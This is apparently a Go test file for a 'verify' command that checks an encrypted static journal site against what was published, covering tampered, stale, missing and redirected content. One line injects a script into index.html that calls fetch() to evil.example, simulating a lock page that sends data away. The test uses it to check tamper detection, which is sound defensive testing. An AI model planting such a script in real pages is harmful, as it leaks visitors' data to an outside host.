package main

import (
	"bytes"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
)

// run returns the exit code and what was said of a run in this process.
func verified(t *testing.T, args ...string) (int, string) {
	t.Helper()
	s, said := nowhere(t)
	root := newRoot(s.term)
	root.SetArgs(args)
	err := root.ExecuteContext(t.Context())
	if err == nil {
		return fine, said.String()
	}
	code, text := wrongUse, err.Error()
	if f, ok := err.(*failure); ok {
		code, text = f.code, text+"\nhint: "+f.hint
	}
	return code, said.String() + text
}

// What seal made is verified on a host; a lock page that sends the passphrase
// away, an old site, and a file that is left out are found.
func TestVerify(t *testing.T) {
	dir := t.TempDir()
	t.Chdir(dir)
	t.Setenv(passphraseVariable, typedPassphrase)
	t.Setenv("SOURCE_DATE_EPOCH", "1772701200")
	note := "---\ncompany: Northwind Robotics\ndate: 2026-03-04 10:00\n---\n\n## Went well\n- Drew the failure modes\n"
	write := func(name, text string) {
		t.Helper()
		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("content/interviews/northwind.md", note)
	server := httptest.NewServer(http.FileServer(http.Dir(filepath.Join(dir, "sealed"))))
	defer server.Close()
	expect := func(code int, words []string, args ...string) {
		t.Helper()
		got, said := verified(t, append([]string{"verify"}, args...)...)
		if got != code {
			t.Errorf("verify %q: exit code %d\n%s", args, got, said)
		}
		for _, w := range words {
			if !strings.Contains(said, w) {
				t.Errorf("verify %q: no %q in\n%s", args, w, said)
			}
		}
	}
	expect(wrongUse, []string{"no list of what was published", "--list FILE"}, server.URL)
	seal := func() {
		t.Helper()
		if code, said := verified(t, "seal"); code != fine {
			t.Fatal(said)
		}
	}
	seal()
	expect(fine, []string{"all as published", "sealed"}, server.URL)

	list, err := os.Stat(".journal/published.json")
	if err != nil || runtime.GOOS != "windows" && list.Mode().Perm() != 0o600 {
		t.Errorf("the list: %v, %v", list, err)
	}
	if ignored, err := os.ReadFile(".journal/.gitignore"); err != nil || string(ignored) != "*\n" {
		t.Errorf("git would take the list along: %q, %v", ignored, err)
	}

	page, err := os.ReadFile("sealed/index.html")
	if err != nil {
		t.Fatal(err)
	}
	write("sealed/index.html", string(bytes.Replace(page, []byte("<script>"), []byte("<script>fetch('//evil.example/'+document.forms.length);"), 1)))
	expect(failed, []string{"differs      ./", "differs      index.html", "do not type the passphrase"}, server.URL)
	write("sealed/index.html", string(page))

	old := map[string][]byte{}
	files, _ := filepath.Glob("sealed/*.age")
	for _, name := range files {
		old[name], _ = os.ReadFile(name)
	}
	write("content/interviews/northwind.md", note+"- Asked about the migration\n")
	seal()
	expect(fine, nil, server.URL)
	for name, data := range old {
		write(name, string(data))
	}
	expect(failed, []string{"too old", "index.age", "published on 20"}, server.URL)
	if err := os.Remove("sealed/index.age"); err != nil {
		t.Fatal(err)
	}
	expect(failed, []string{"missing      index.age"}, server.URL)

	away := httptest.NewServer(http.RedirectHandler(server.URL, http.StatusFound))
	defer away.Close()
	expect(failed, []string{"elsewhere", "it leads to " + server.URL, "if the other address is yours"}, away.URL)
	expect(wrongUse, []string{"an address begins with https://"}, "ftp://you.example")
	expect(wrongUse, []string{"nothing was published to gh-pages"}, server.URL, "--to", "gh-pages")
	server.Close()
	expect(failed, []string{"no answer", "look at the address and the network"}, server.URL)
}
